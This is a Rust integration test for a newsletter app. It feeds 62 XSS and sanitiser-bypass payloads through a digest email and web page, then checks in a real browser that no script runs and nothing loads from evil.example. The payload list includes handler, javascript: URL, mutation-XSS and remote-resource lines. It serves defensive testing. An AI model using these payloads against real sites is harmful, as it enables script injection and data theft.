//! Hostile articles in a real browser: nothing of a feed runs, asks the network or changes what stands around it, neither in the letter
//! nor on its page (X2).

use serde_json::{Value, json};

use crate::harness::app::{Options, TestApp};
use crate::harness::browser::Browser;
use crate::harness::database::sqlite;
use crate::harness::http;

/// What was tried on sanitisers: handlers, addresses that run, foreign namespaces, CSS, entities and encodings within encodings, markup
/// that changes when it is parsed again, and what ends the element that it stands in. `$` is where a program would call.
const PAYLOADS: [&str; 62] = [
    "<script>$</script>",
    "<scr<script>ipt>$</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>$</script >",
    "<img src=x onerror=$>",
    "<img src=x onerror=\"$\">",
    "<img/src=`x`onerror=$>",
    "<IMG SRC=x OnErRoR=$>",
    "<img src='x\"onerror=\"$'>",
    "<img \"\"\"><script>$</script>\">",
    "<a href=javascript:$>x</a>",
    "<a href=\"JaVaScRiPt:$\">x</a>",
    "<a href=\" &#14; javascript:$\">x</a>",
    "<a href=\"java&#x0A;script:$\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$\">x</a>",
    "<a href=\"&amp;#106;avascript:$\">x</a>",
    "<a href=\"jav&Tab;ascript&colon;$\">x</a>",
    "<a href=\"data:text/html,<script>$</script>\">x</a>",
    "<a href=\"vbscript:$\">x</a>",
    "<a href=\"https://news.example/\" onclick=$ onmouseover=$>x</a>",
    "<a href=\"https://news.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<a href='https://news.example/\"onmouseover=\"$'>x</a>",
    "<svg onload=$>",
    "<svg><script>$</script></svg>",
    "<svg><script xlink:href=//evil.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:$><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:$ /></svg>",
    "<svg><style><img src=x onerror=$></style></svg>",
    "<svg><desc><template><img src=x onerror=$></template></desc></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=$></style></mglyph></table></mtext></math>",
    "<math href=javascript:$>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$>",
    "<noscript><p title=\"</noscript><img src=x onerror=$>\">",
    "<title><img title=\"</title><img src=x onerror=$>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=$>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=$>\">",
    "<iframe srcdoc=\"&lt;script&gt;$&lt;/script&gt;\"></iframe>",
    "<iframe src=javascript:$></iframe>",
    "<object data=javascript:$></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example/><input name=p><button autofocus onfocus=$>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x.png)}</style>",
    "<p style=\"background:url(//evil.example/x.png)\">x</p>",
    "<p style=\"width:expression($)\">x</p>",
    "<div id=paper class=paper style=display:none>x</div>",
    "<details open ontoggle=$>x</details>",
    "<video><source onerror=$></video>",
    "<audio src=//evil.example/x.mp3 autoplay onloadstart=$>",
    "<body onload=$>",
    "<table background=//evil.example/x.png><tr><td>x",
    "</td></tr></table></div></body><script>$</script>",
    "]]><script>$</script>",
    "--><script>$</script><!--",
    "<!--[if mso]><script>$</script><![endif]-->",
    "<!--<img src=\"--><img src=x onerror=$>\">",
    "&lt;script&gt;$&lt;/script&gt;",
    "&amp;lt;script&amp;gt;$&amp;lt;/script&amp;gt;",
    "<\u{0}script>$</\u{0}script>",
    "\u{202e}<img src=x onerror=$>\u{feff}",
];

const CALL: &str = "top.ran=1";

/// The feed: each payload as summary, as title, as source, and in the address of a picture.
fn feed() -> Value {
    let items: Vec<Value> = (0..)
        .zip(PAYLOADS)
        .map(|(number, payload): (usize, &str)| {
            let payload = payload.replace('$', CALL);
            let section = ["cards", "lead", "brief"][number % 3];
            json!({
                "id": format!("hostile-{number}"),
                "url": format!("https://news.example/{number}?q=\"onmouseover=\"{CALL}"),
                "title": format!("{number} {payload}"),
                "content_html": format!("<p>before {payload} after</p>"),
                "source": payload,
                "image": format!("https://news.example/{number}.png?\"onerror=\"{CALL}"),
                "image_alt": payload,
                "date_published": format!("2026-01-04T10:{:02}:00Z", number % 60),
                "tags": [section],
            })
        })
        .collect();
    json!({ "version": "https://jsonfeed.org/version/1.1", "title": "x", "items": items })
}

/// What a browser found that no article may bring: elements, attributes and addresses that run, ask or hide.
const FOUND: &str = r"
    const bad = [];
    if (top.ran) bad.push('a program ran');
    for (const e of document.querySelectorAll('script, iframe, object, embed, form:not([action^=\'/\']), svg, math, base, video, audio, template, [srcdoc]'))
        bad.push(e.outerHTML.slice(0, 200));
    for (const e of document.querySelectorAll('*')) for (const { name, value } of e.attributes) {
        if (/^on/i.test(name) || /^\s*(javascript|data|vbscript):/i.test(value)) bad.push(e.outerHTML.slice(0, 200));
        if (/^(href|src)$/.test(name) && /evil\.example/.test(value)) bad.push(e.outerHTML.slice(0, 200));
    }
    for (const e of document.querySelectorAll('.summary, .summary *, article p *'))
        if (!/^(P|A|EM|STRONG|B|I|SPAN|BR|SUB|SUP|CODE|CITE|Q|ABBR|BDI|BDO|MARK|S|U|DEL|INS|SMALL)$/.test(e.tagName)) bad.push(e.outerHTML.slice(0, 200));
    const asked = performance.getEntriesByType('resource').map(r => r.name).filter(name => /evil/.test(name));
    const last = document.querySelector('.footer, footer');
    if (!last || !last.checkVisibility()) bad.push('the footer is gone');
    return bad.concat(asked);";

/// Issue 6, point 8; X2.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn x2_nothing_of_an_article_runs_in_the_letter_or_on_its_page() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sections = "sections = [{ key = \"cards\", name = \"c\", limit = 50, categories = [\"cards\"] }, \
        { key = \"lead\", name = \"l\", layout = \"lead\", limit = 50, categories = [\"lead\"] }, \
        { key = \"brief\", name = \"b\", layout = \"brief\", limit = 50, categories = [\"brief\"] }]";
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("hostile.json");
    std::fs::write(&file, feed().to_string()).unwrap();
    let lists = format!(
        "[[lists]]\nslug = \"hostile\"\nname = \"x\"\nlocale = \"en\"\nschedule = \"0 7 * * 1\"\nzone = \"UTC\"\n{sections}\n\
         feeds = [{{ url = {:?} }}]\n",
        file.to_str().unwrap()
    );
    let app = TestApp::with(
        sqlite().await,
        Options {
            lists,
            ..Options::default()
        },
    )
    .await;
    app.many_confirmed_of("hostile", "example.org", 1).await;
    let run = app.digest_run(["--list", "hostile"]).run().await;
    assert_eq!(run.code, Some(0), "{run:#?}");
    let mail = app.catcher.messages().pop().unwrap();
    let (html, text) = (mail.html().unwrap(), mail.text().unwrap());
    let shown = text
        .lines()
        .filter(|line| line.starts_with("https://news.example/"))
        .count();
    assert!(shown > 20, "{shown}: {text}");
    let letter = folder.path().join("letter.html");
    std::fs::write(&letter, &html).unwrap();
    let page = text
        .lines()
        .find(|line| line.contains("/d/"))
        .unwrap()
        .to_owned();
    assert_eq!(http::get(&page).await.status, 200);
    for url in [format!("file://{}", letter.display()), page] {
        browser.open(&url).await;
        assert_eq!(browser.ask(FOUND).await, json!([]), "{url}");
    }
    // The check can fail.
    std::fs::write(
        &letter,
        html.replacen(
            "</h1>",
            &format!("</h1><img src=x onerror={CALL}><svg></svg>"),
            1,
        ),
    )
    .unwrap();
    browser.open(&format!("file://{}", letter.display())).await;
    let found = browser.ask(FOUND).await.to_string();
    assert!(
        found.contains("onerror") && found.contains("svg"),
        "{found}"
    );
}
